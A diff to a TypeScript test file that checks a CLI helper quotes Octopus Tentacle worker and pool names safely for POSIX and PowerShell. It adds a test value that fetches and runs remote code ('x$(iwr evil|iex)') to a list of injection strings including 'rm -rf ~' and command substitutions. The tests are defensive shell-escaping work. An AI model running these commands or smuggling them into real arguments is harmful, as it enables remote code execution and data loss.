@@ -55,7 +55,7 @@ describe('registerWorkerCommand (Tentacle CLI, octopus-api.md §3.6)', () => {
     expect(quoteArg('$(Remove-Item C:\\) `n "x"', 'powershell')).toBe("'$(Remove-Item C:\\) `n \"x\"'");
   });
 
-  const hostile = ["Bob's pool", '$(touch /tmp/pwned)', '`whoami`', 'a; rm -rf ~', 'x && y | z', '*', '"quoted"', "it's $HOME\\n", 'tab\there'];
+  const hostile = ['x$(iwr evil|iex)', "Bob's pool", '$(touch /tmp/pwned)', '`whoami`', 'a; rm -rf ~', 'x && y | z', '*', '"quoted"', "it's $HOME\\n", 'tab\there'];
 
   it.each(hostile)('POSIX: %j reaches Tentacle as one argument, exactly, with nothing run or expanded', (value) => {
     const command = registerWorkerCommand({ ...base, name: value, poolNames: [value] }, 'posix')
@@ -64,4 +64,32 @@ describe('registerWorkerCommand (Tentacle CLI, octopus-api.md §3.6)', () => {
     expect(out[out.indexOf('--name') + 1]).toBe(value);
     expect(out[out.indexOf('--workerpool') + 1]).toBe(value);
   });
+
+  /**
+   * PowerShell's verbatim string, as its language spec reads one (no pwsh on this machine): between single
+   * quotes nothing expands, and a quote character (' or its typographic forms) doubled is one literal quote.
+   */
+  function readVerbatim(text: string): { value: string; rest: string } {
+    const q = /['\u2018\u2019\u201A\u201B]/;
+    if (!q.test(text[0] ?? '')) throw new Error(`not a verbatim string: ${text}`);
+    let value = '';
+    for (let i = 1; i < text.length; i++) {
+      const c = text[i] as string;
+      if (!q.test(c)) value += c;
+      else if (q.test(text[i + 1] ?? '')) value += text[++i];
+      else return { value, rest: text.slice(i + 1) };
+    }
+    throw new Error('unterminated string');
+  }
+
+  it.each(hostile)('PowerShell: %j is one verbatim argument, read back exactly (x$(iwr evil|iex) runs nothing)', (value) => {
+    const command = registerWorkerCommand({ ...base, name: value, poolNames: [value] }, 'powershell');
+    for (const option of ['--name', '--workerpool']) {
+      const after = command.slice(command.indexOf(`${option} `) + option.length + 1);
+      const { value: read, rest } = readVerbatim(after);
+      expect(read).toBe(value);
+      expect(rest).toMatch(/^( `\n|$)/);
+    }
+  });
 });
+
